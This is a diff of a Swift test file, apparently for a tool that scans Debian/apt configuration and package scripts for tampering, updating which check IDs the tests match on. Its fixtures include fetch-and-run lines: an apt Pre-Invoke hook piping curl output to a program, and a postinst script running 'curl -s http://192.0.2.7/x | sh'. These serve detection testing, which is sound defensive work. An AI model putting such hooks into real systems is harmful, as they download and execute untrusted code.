@@ -15,7 +15,7 @@ import Testing
     @Test func `a file that no package ships is neither compared with an archive nor restored from one`() throws {
         var builder = EvidenceBuilder()
         builder.apt("/etc/apt/apt.conf.d/99x", [(.append, "DPkg::Pre-Invoke", "curl x | /opt/agent --run")])
-        let finding = try #require(findings(builder).first { $0.finding.check == "apt-conf-executes" })
+        let finding = try #require(findings(builder).first { $0.finding.check == AptConfExecutes.id })
         let ids = finding.guidance.map(\.id)
         #expect(!ids.contains("restore-from-archive") && !ids.contains("compare-file-with-archive"))
         #expect(ids.contains("remove-configuration"))
@@ -28,7 +28,7 @@ import Testing
         builder.install("tool")
         builder.apt("/etc/apt/apt.conf.d/99x", [], problems: [.textBehindStatements])
         if isOwned { builder.own("/etc/apt/apt.conf.d/99x", by: "tool") }
-        let finding = try #require(findings(builder).first { $0.finding.check == "apt-conf-syntax" })
+        let finding = try #require(findings(builder).first { $0.finding.check == AptConfSyntax.id })
         #expect(finding.guidance.contains { $0.id == "restore-from-archive" } == isOwned)
         #expect(finding.guidance.contains { $0.id == "compare-file-with-archive" } == isOwned)
     }
@@ -55,7 +55,7 @@ import Testing
         var builder = EvidenceBuilder()
         builder.install("tool")
         builder.script("tool", "postinst", "#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n")
-        for finding in findings(builder) where finding.finding.check == "suspicious-content" {
+        for finding in findings(builder) where finding.finding.check == SuspiciousContent.id {
             #expect(!finding.guidance.contains { $0.id == "preserve-named-programs" })
         }
     }
